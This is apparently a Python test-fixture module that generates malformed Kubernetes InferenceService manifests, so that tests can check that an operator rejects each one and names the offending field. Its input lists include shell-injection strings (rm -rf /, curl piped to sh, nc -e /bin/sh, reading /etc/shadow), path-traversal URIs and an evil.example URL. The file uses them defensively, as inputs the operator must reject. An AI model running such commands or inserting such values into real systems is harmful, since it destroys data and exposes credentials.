"""Malformed InferenceService manifests for test_hostile_input.py, invalid by construction: each
comes with the field its rejection must name. Leaf mutations are derived from the CRD's own schema
(ranges, enums, patterns, lengths, types, required fields); rules the schema cannot express (the
models' validators) and names no Service could carry are listed by hand."""

from __future__ import annotations

import copy
import re
import uuid
from collections.abc import Iterator
from itertools import pairwise
from typing import Any

import yaml
from hypothesis import strategies as st
from operator_harness import ROOT

CRD = ROOT / "crds" / "inferenceservices.infertune.dev.yaml"
BASE: dict[str, Any] = yaml.safe_load((ROOT / "examples" / "demo.yaml").read_text())
SHELLY = [
    "$(reboot)",
    "`id`",
    "; rm -rf /",
    "a && curl x|sh",
    "$(cat /etc/shadow)",
    "${HOME}",
    "|nc -e /bin/sh",
]
UNICODE = ["ünïcødé", "模型", "\u202eevil", "🙂", "\uff4d\uff53", "\u00a0", "Ω≈ç√"]
HOSTILE_TEXT = st.one_of(
    st.sampled_from(SHELLY + UNICODE),
    st.text(min_size=1, max_size=40),
    st.builds(lambda a, b: a + b, st.sampled_from(SHELLY), st.sampled_from(UNICODE)),
)
ENORMOUS = st.one_of(
    st.integers(min_value=2**31, max_value=2**62),
    st.sampled_from([10**18, 2**63 - 1, 10**30, -(10**30)]),
)


# ---------------------------------------------------------------- the schema's leaves, from the CRD
def _leaves(
    schema: dict[str, Any], path: tuple[str, ...]
) -> Iterator[tuple[tuple[str, ...], dict[str, Any]]]:
    kind = schema.get("type")
    if kind == "object" and "properties" in schema:
        for key, sub in schema["properties"].items():
            yield from _leaves(sub, (*path, key))
        return
    if kind == "array":
        yield from _leaves(schema.get("items", {}), (*path, "0"))
        return
    yield path, schema


def _required(schema: dict[str, Any], path: tuple[str, ...]) -> Iterator[tuple[str, ...]]:
    for key, sub in (schema.get("properties") or {}).items():
        if key in schema.get("required", []):
            yield (*path, key)
        yield from _required(sub, (*path, key))


_SPEC_SCHEMA = yaml.safe_load(CRD.read_text())["spec"]["versions"][0]["schema"]["openAPIV3Schema"][
    "properties"
]["spec"]
LEAVES = list(_leaves(_SPEC_SCHEMA, ("spec",)))
REQUIRED = [("spec", *p[1:]) for p in _required(_SPEC_SCHEMA, ("spec",))]


def _bad_value(draw: st.DrawFn, schema: dict[str, Any]) -> Any:
    """A value the leaf's schema (and the pydantic model behind it) must refuse."""
    kind = schema.get("type")
    options: list[st.SearchStrategy[Any]] = [st.sampled_from([[1, 2], {"x": "$(id)"}])]
    if kind in ("integer", "number"):
        options.append(HOSTILE_TEXT)
        if "maximum" in schema:
            top = schema["maximum"]
            options.append(st.one_of(ENORMOUS.filter(lambda v: v > top), st.just(top + 1)))
            if kind == "number":
                options.append(st.floats(min_value=top * 2 + 1, max_value=1e300))
        if "minimum" in schema:
            low = schema["minimum"]
            options.append(
                st.sampled_from([low, low - 1, -(2**40)])
                if schema.get("exclusiveMinimum")
                else st.integers(max_value=low - 1, min_value=-(2**62))
            )
        if kind == "integer":
            options.append(st.sampled_from([1.5, 0.25, 1e-9]))
    elif kind == "boolean":
        options.append(st.one_of(HOSTILE_TEXT, st.integers()))
    elif kind == "string":
        options.append(st.integers(min_value=-(10**30), max_value=10**30))
        if "enum" in schema:
            options.append(HOSTILE_TEXT.filter(lambda v: v not in schema["enum"]))
        if "pattern" in schema:
            pattern = re.compile(schema["pattern"])
            options.append(HOSTILE_TEXT.filter(lambda v: not pattern.search(v)))
        if "maxLength" in schema:
            options.append(
                st.integers(min_value=1, max_value=300).map(
                    lambda n: "ü" * (schema["maxLength"] + n)
                )
            )
    elif kind == "object":  # nodeSelector: a map of strings
        options.append(
            st.fixed_dictionaries(
                {"k": st.one_of(st.integers(), st.lists(st.integers(), max_size=2))}
            )
        )
    return draw(st.one_of(options))


def set_path(doc: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    """Set `value` at `path`, creating what is missing; a digit step is a list index (as
    `_leaves` names array items), so any array field works, not a list of known names."""

    def child(node: Any, key: str, want_list: bool) -> Any:
        kind = list if want_list else dict
        if isinstance(node, list):
            index = int(key)
            node.extend([None] * (index + 1 - len(node)))
            if not isinstance(node[index], kind):
                node[index] = kind()
            return node[index]
        if not isinstance(node.get(key), kind):
            node[key] = kind()
        return node[key]

    node: Any = doc
    for key, following in pairwise(path):
        node = child(node, key, following.isdigit())
    last = path[-1]
    if isinstance(node, list):
        node.extend([None] * (int(last) + 1 - len(node)))
        node[int(last)] = value
    else:
        node[last] = value


def _delete(doc: dict[str, Any], path: tuple[str, ...]) -> None:
    node: Any = doc
    for key in path[:-1]:
        node = node.setdefault(key, {})
    node.pop(path[-1], None)


# Rules the CRD schema cannot express (validators in the models): only the operator can refuse these.
OPERATOR_RULES: list[tuple[str, tuple[str, ...], st.SearchStrategy[Any]]] = [
    (
        "spec.model.uri",
        ("spec", "model", "uri"),
        st.one_of(
            st.sampled_from(
                [
                    "file:///models/../../etc/shadow",
                    "pvc://models/../../kube",
                    "../../root/.ssh",
                    "builtin://../tiny",
                    "/var/lib/../../etc",
                    "pvc://claim/a/../../../b",
                ]
            ),
            st.builds(lambda s: f"http://evil.example/{s}", HOSTILE_TEXT),
            st.builds(
                lambda s: f"builtin://{s}",
                HOSTILE_TEXT.filter(
                    lambda v: (
                        v not in ("tiny", "small", "medium")
                        and "/" not in v
                        and "?" not in v
                        and "#" not in v
                        and ":" not in v
                    )
                ),
            ),
            st.sampled_from(
                [
                    "pvc:///no-claim",
                    "s3://bucket/model",
                    "javascript:alert(1)",
                    "file:///a\nb",
                    "builtin://tiny\r\nx",
                ]
            ),
        ),
    ),
    (
        "spec.hardware.nodeSelector",
        ("spec", "hardware", "nodeSelector"),
        st.one_of(
            st.dictionaries(
                HOSTILE_TEXT.filter(
                    lambda k: not re.match(r"^[A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?$", k)
                ),
                st.just("x"),
                min_size=1,
                max_size=2,
            ),
            st.dictionaries(
                st.just("disk"),
                HOSTILE_TEXT.filter(
                    lambda v: not re.match(r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$", v)
                ),
                min_size=1,
                max_size=1,
            ),
            st.just({"k" * 400: "v"}),
        ),
    ),
    (
        "spec.hardware.gpuProducts",
        ("spec", "hardware", "gpuProducts"),
        st.one_of(
            st.lists(
                HOSTILE_TEXT.filter(
                    lambda v: not re.match(r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$", v)
                ),
                min_size=1,
                max_size=2,
            ),
            st.just(["A" * 64]),
        ),
    ),
    (
        "spec.retune",
        ("spec", "retune"),
        st.integers(16, 3600).map(
            lambda s: {"checkInterval": f"{s}s", "violationWindow": f"{s - 1}s"}
        ),
    ),
    (
        "parallelTrials",
        ("spec", "budget"),
        st.integers(1, 50).map(lambda n: {"maxTrials": n, "parallelTrials": n + 1}),
    ),
    (
        "spec.traffic.promptTokens",
        ("spec", "traffic", "promptTokens"),
        st.integers(2, 10**6).map(lambda n: {"distribution": "uniform", "min": n, "max": n - 1}),
    ),
    (
        "spec.traffic.outputTokens",
        ("spec", "traffic", "outputTokens"),
        st.sampled_from(
            [
                {"distribution": "fixed"},
                {"distribution": "lognormal", "mean": 8},
                {"distribution": "uniform", "min": 4},
            ]
        ),
    ),
    (
        "spec.search.maxNumSeqs",
        ("spec", "search", "maxNumSeqs"),
        st.one_of(
            st.integers(2, 10**6).map(lambda n: {"min": n, "max": n - 1}),
            st.just({"values": [1], "min": 1, "max": 2}),
            st.just({"min": 4}),
        ),
    ),
    ("spec.slo", ("spec", "slo"), st.sampled_from([{"objective": "goodput"}, {}])),
    (
        "spec.search",
        ("spec", "search"),
        st.just({"engines": ["llamacpp"], "quantizations": ["fp8"]}),
    ),
    (
        "spec.traffic",
        ("spec", "traffic"),
        st.just({"numRequests": 10, "promptTokens": {"distribution": "fixed", "mean": 8}}),
    ),
]


# Valid for the API server (a DNS subdomain, up to 253 characters), but a Service name and the label
# tying children to their InferenceService must be a DNS-1035 label: the operator refuses these.
SUBDOMAIN_NOT_LABEL = st.one_of(
    st.integers(64, 253).map(lambda n: "n" * n),
    st.integers(1, 120).map(lambda n: "h" * n + "." + "x" * (252 - n)),
    st.sampled_from(["llama-3.1-8b", "0day", "9", "a.b"]),
)


@st.composite
def malformed(draw: st.DrawFn) -> tuple[dict[str, Any], str, str]:
    """(manifest, the field its rejection must name, the family) - invalid by construction."""
    doc = copy.deepcopy(BASE)
    doc["metadata"] = {"name": f"bad-{uuid.uuid4().hex[:10]}"}
    family = draw(
        st.sampled_from(["leaf", "leaf", "leaf", "required", "rule", "rule", "name", "type"])
    )
    if family == "leaf":
        path, schema = draw(st.sampled_from(LEAVES))
        set_path(doc, path, _bad_value(draw, schema))
        field = ".".join(p for p in path if not p.isdigit())
    elif family == "required":
        path = draw(st.sampled_from(REQUIRED))
        _delete(doc, path)
        field = ".".join(path)
    elif family == "rule":
        field, path, values = draw(st.sampled_from(OPERATOR_RULES))
        set_path(doc, path, draw(values))
    elif family == "type":  # whole sections of the wrong type
        section = draw(
            st.sampled_from(
                ["model", "slo", "traffic", "search", "budget", "hardware", "rollout", "retune"]
            )
        )
        doc["spec"][section] = draw(st.one_of(HOSTILE_TEXT, ENORMOUS, st.just([{"$(x)": 1}])))
        field = f"spec.{section}"
    else:  # metadata.name: too long, unicode, shell; or a valid subdomain no Service could carry
        doc["metadata"]["name"] = draw(st.one_of(
            st.integers(254, 400).map(lambda n: "a" * n),
            HOSTILE_TEXT.filter(lambda v: not re.fullmatch(r"[a-z0-9]([-a-z0-9.]*[a-z0-9])?", v)),
            SUBDOMAIN_NOT_LABEL,
        ))  # fmt: skip
        field = "metadata.name"
    return doc, field, family


def names_field(text: str, field: str) -> bool:
    """Whether a rejection message names `field` (list indexes aside)."""
    return field in re.sub(r"\[\d+\]", "", text)
